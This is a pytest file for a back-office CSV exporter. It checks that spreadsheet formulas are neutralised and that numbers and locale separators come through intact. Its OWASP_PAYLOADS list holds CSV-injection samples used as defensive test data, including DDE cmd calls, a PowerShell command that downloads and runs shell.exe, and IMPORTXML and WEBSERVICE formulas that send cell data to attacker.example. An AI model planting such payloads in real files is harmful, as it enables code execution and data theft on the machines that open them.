"""The CSV writer of every export: formulas stay text, numbers stay numbers, empty stays empty."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest

from backoffice.web.csvexport import FORMULA_STARTS, Money, cell, csv_text

# OWASP's CSV injection page and the payload lists that follow it (DDE, HYPERLINK, IMPORTXML,
# the quote-and-separator escapes), plus the leading tab, CR and LF OWASP names, NUL (ASVS
# 1.2.10) and the full-width forms.
OWASP_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further '
    'information")',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://attacker.example/?"&A1)',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0bcmd|' /C calc'!A0",  # full-width +
    "\uff0d2+3",  # full-width -
    "\uff20SUM(1+1)",  # full-width @
]
HARMLESS = ['DDE ("cmd";"/C calc";"!A0")A0', "Mari Maasikas", "a; b", 'say "hi"', "'", "1-2"]
# A formula after a mark where a reader of another locale starts a new cell or row.
HIDDEN = ["a;=1+1", "Mari\t@SUM(1+1)", "line one\n=1+1", "x\r\n+1", "a;\uff1d1+1"]


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_owasp_payload_reads_back_as_text_behind_a_single_quote(payload: str) -> None:
    (_, (reason, amount)) = read(csv_text(["reason", "amount"], [[payload, Money(100)]]))
    assert amount == "1.00" and reason[0] == "'"
    # Take the quotes off again (the ones behind a semicolon, tab or line break too).
    unguarded = re.sub(r"(?<=[;\t\r\n])'", "", reason[1:])
    assert unguarded == payload


@pytest.mark.parametrize("payload", OWASP_PAYLOADS + HIDDEN + HARMLESS)
def test_a_spreadsheet_splitting_on_any_mark_finds_no_cell_that_starts_a_formula(
    payload: str,
) -> None:
    # Estonian and Russian spreadsheets split on semicolons; some guess tabs.
    written = csv_text(["id", "reason", "reference"], [[1, payload, payload]])
    for delimiter in (",", ";", "\t"):
        for row in read(written, delimiter):
            for value in row:
                assert value[:1] not in FORMULA_STARTS, (delimiter, row)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_kept_as_it_is(text: str) -> None:
    (_, row) = read(csv_text(["reason"], [[text]]))
    assert row == [text]


def test_a_formula_hidden_behind_a_semicolon_tab_or_line_break_gets_its_quote() -> None:
    (_, row) = read(csv_text(["reason"] * len(HIDDEN), [HIDDEN]))
    assert row == ["a;'=1+1", "Mari\t'@SUM(1+1)", "line one\n'=1+1", "x\r\n'+1", "a;'\uff1d1+1"]


def test_amounts_stay_numbers_empty_cells_stay_empty_and_the_total_adds_up() -> None:
    amounts = [2000, -1444, -56, 0, 1]
    written = csv_text(
        ["id", "amount", "reason", "reference"],
        [[n, Money(cents), "-14.44 for a call", None] for n, cents in enumerate(amounts, 1)]
        + [[None, Money(sum(amounts)), "total", ""]],
    )
    assert ",-14.44," in written  # bare, not quoted, not behind a quote
    header, *rows, total = read(written)
    assert header == ["id", "amount", "reason", "reference"]
    assert [row[0] for row in rows] == ["1", "2", "3", "4", "5"]
    assert [row[3] for row in rows] == [""] * 5 and total[0] == "" and total[3] == ""
    assert [row[2] for row in rows] == ["'-14.44 for a call"] * 5  # text, so guarded
    numbers = [Decimal(row[1]) for row in rows]
    assert numbers == [Decimal("20.00"), Decimal("-14.44"), Decimal("-0.56"), 0, Decimal("0.01")]
    assert sum(numbers) == Decimal(total[1]) == Decimal("5.01")


def test_only_text_whole_numbers_and_money_are_cells() -> None:
    assert cell(-3) == "-3" and cell(None) == "" and cell("") == "" and cell(Money(-5)) == "-0.05"
    for wrong in (1.5, Decimal("1.50"), True):
        with pytest.raises(TypeError):
            cell(wrong)  # type: ignore[arg-type]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS + HIDDEN)
def test_an_estonian_file_splits_on_semicolons_and_still_guards_formulas(payload: str) -> None:
    written = csv_text(["reason", "amount"], [[payload, Money(-123456)]], "et")
    (header, (reason, amount)) = read(written, delimiter=";")
    assert header == ["reason", "amount"]
    assert amount == "-1234,56"  # a number to an Estonian spreadsheet: no grouping, comma
    assert reason[0] == "'" or re.search(r"[;\t\r\n]'", reason)


def test_the_separator_and_decimals_follow_the_readers_language() -> None:
    row = [[1, Money(-150), "a, b"]]
    assert csv_text(["id", "amount", "reason"], row, "en").splitlines()[1] == '1,-1.50,"a, b"'
    assert csv_text(["id", "amount", "reason"], row, "et").splitlines()[1] == '1;-1,50;"a, b"'
    assert csv_text(["id", "amount", "reason"], row, "ru").splitlines()[1] == '1;-1,50;"a, b"'
